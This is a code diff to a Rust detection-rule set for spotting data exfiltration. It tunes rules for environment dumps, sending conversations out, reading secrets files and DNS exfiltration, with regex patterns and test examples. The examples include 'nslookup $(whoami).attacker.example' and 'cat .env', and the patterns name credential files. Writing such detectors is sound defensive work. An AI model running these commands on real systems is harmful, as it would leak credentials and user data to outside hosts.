@@ -106,6 +106,13 @@ fn env_dump(c: &Candidate<'_>) -> Gate {
             return Gate::Drop;
         }
     }
+    let after = c.after().trim_start().to_ascii_lowercase();
+    if m.trim_end().ends_with('|') && (after.starts_with("grep") || after.starts_with("rg ")) {
+        return Gate::Lower(
+            2,
+            "filters the environment for a name; prints only what matches",
+        );
+    }
     if m.contains(".copy()") || m.contains("...process.env") {
         return Gate::Lower(
             3,
@@ -118,14 +125,46 @@ fn env_dump(c: &Candidate<'_>) -> Gate {
 fn conversation_exfil(c: &Candidate<'_>) -> Gate {
     let after = c.after().to_ascii_lowercase();
     let after = after.trim_start();
-    if after.starts_with("with the user")
-        || after.starts_with("with you")
-        || after.starts_with("to the user")
-        || after.starts_with("back to the user")
+    if [
+        "with the user",
+        "with you",
+        "to the user",
+        "back to the user",
+    ]
+    .iter()
+    .any(|p| after.starts_with(p))
     {
         return Gate::Drop;
     }
-    Gate::Keep
+    let line = c.line.to_ascii_lowercase();
+    // Chat APIs are stateless: sending the history to the model is how they work.
+    if [
+        "api",
+        "stateless",
+        "each request",
+        "each time",
+        "every request",
+        "every turn",
+        "the model",
+        "messages array",
+        "messages list",
+    ]
+    .iter()
+    .any(|w| line.contains(w))
+    {
+        return Gate::Drop;
+    }
+    let destination = [
+        "http", "@", "webhook", "endpoint", "server", "email", "external", "third", "url",
+        "address", " to ",
+    ]
+    .iter()
+    .any(|w| after.contains(w));
+    if destination {
+        Gate::Keep
+    } else {
+        Gate::Lower(1, "names no destination")
+    }
 }
 
 fn send_to_url(c: &Candidate<'_>) -> Gate {
@@ -321,12 +360,17 @@ pub const RULES: &[Rule] = &[
                 "secret.",
                 "secrets.",
             ],
-            r#"\b(?:cat|less|more|head|tail|bat|type|Get-Content)\s+(?:-\S+\s+(?:\d+\s+)?)*["']?[^\s|>;&"'<]*(?:\.env(?:\.(?:local|production|prod|development|dev))?|credentials(?:\.json)?|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|secrets?\.(?:json|ya?ml|toml|env))\b"#,
+            r#"\b(?:cat|less|more|head|tail|bat|Get-Content|gc)\s+(?:-\S+\s+(?:\d+\s+)?)*["']?[^\s|>;&"'<(]*(?:\.env(?:\.(?:local|production|prod|development|dev))?|credentials(?:\.json)?|\.netrc|\.pgpass|\.npmrc|\.pypirc|\.git-credentials|secrets?\.(?:json|ya?ml|toml|env))\b"#,
             secrets_file_read,
         ),
         signal: Some(Signal::SecretRead),
         examples: &["cat .env", "head -n 50 ~/.config/app/credentials.json"],
-        clean: &["cat > .env << EOF", "cat .env.example", "cat >> .env"],
+        clean: &[
+            "cat > .env << EOF",
+            "cat .env.example",
+            "cat >> .env",
+            "By error type (credentials, network, limits)",
+        ],
         ..Rule::base(
             "secrets-file-read",
             Exfiltration,
@@ -403,7 +447,7 @@ pub const RULES: &[Rule] = &[
         upstream: &["dns_exfil"],
         detect: pattern(
             &["dig", "nslookup", "host", "drill"],
-            r"(?:^|[\s;&|(`])(?:dig|nslookup|host|drill)\s+[^\n|;]*(?:\$\(|`|\$\{?\w+\}?\.[A-Za-z0-9-]+\.)",
+            r"(?:^|[\s;&|(`])(?:dig|nslookup|host|drill)\s+(?:-\S+\s+)*(?:@\S+\s+)?[^\s|;]*(?:\$\(|\$\{?\w+\}?\.[A-Za-z0-9-]+\.)",
         ),
         examples: &[
             "nslookup $(whoami).attacker.example",
@@ -506,6 +550,7 @@ pub const RULES: &[Rule] = &[
         clean: &[
             "share the bundled HTML file in conversation with the user",
             "Include context: directory",
+            "The API is stateless — send the full conversation history each time.",
         ],
         ..Rule::base(
             "conversation-exfil",
